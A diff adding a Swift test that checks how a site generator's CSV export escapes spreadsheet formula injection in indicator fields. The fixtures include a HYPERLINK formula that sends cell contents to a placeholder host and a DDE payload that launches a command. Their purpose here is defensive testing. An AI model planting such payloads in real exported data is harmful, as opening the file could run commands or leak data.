@@ -74,6 +74,30 @@ struct RenderingOpenDataTests {
         }
     }
 
+    @Test("indicateurs.csv: a text a spreadsheet would run as a formula starts with a quote; numbers stay numbers")
+    func csvFormulas() async throws {
+        let convention = ProjectFixture.roubaix
+            .replacingOccurrences(of: "libelle: Places en EAJE", with: "libelle: '=HYPERLINK(\"http://x.example/?\"&A1,\"Clic\")'")
+            .replacingOccurrences(of: "unite: places", with: "unite: \"+cmd|' /C calc'!A0\"")
+            .replacingOccurrences(of: "reference: { annee: 2013, valeur: 850 }", with: "reference: { annee: 2013, valeur: -12 }")
+            .replacingOccurrences(of: "libelle: Taux de couverture", with: "libelle: \"@SUM(1+1)\"")
+        let fx = ProjectFixture(files: ["content/territoires/roubaix-2014.md": convention])
+        defer { fx.cleanup() }
+        let site = try await RenderingFixture.site(fx.root)
+        let rows = try #require(site["donnees/indicateurs.csv"]).components(separatedBy: "\r\n")
+        #expect(rows.contains("roubaix-2014,accueil,a1-o1,places-eaje,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Clic\"\")\",\"'+cmd|' /C calc'!A0\",2013,-12,,"),
+                "\(rows)")
+        #expect(rows.contains { $0.hasPrefix("roubaix-2014,accueil,a1-o1,a1-o1-i2,\"'@SUM(1+1)\",%,2013,2.7,") }, "\(rows)")
+        for (text, field) in [("=1+1", "\"'=1+1\""), ("+33 3 20", "\"'+33 3 20\""), ("-5", "\"'-5\""), ("@x", "\"'@x\""),
+                              ("\tx", "\"'\tx\""), ("\rx", "\"'\rx\""), ("=\"a\"", "\"'=\"\"a\"\"\""),
+                              ("a=b", "a=b"), ("Places", "Places"), ("", ""), (" =x", " =x")] {
+            #expect(OpenData.csvField(text) == field, "\(text.debugDescription)")
+            var h = HTMLBuffer()
+            OpenData.csvField(text, into: &h)
+            #expect(h.out == field, "\(text.debugDescription)")
+        }
+    }
+
     @Test("sitemap.xml: absolute URLs from site.url, every public page, not the report")
     func sitemap() async throws {
         let site = try await RenderingFixture.site(options: RenderOptions(revue: true))
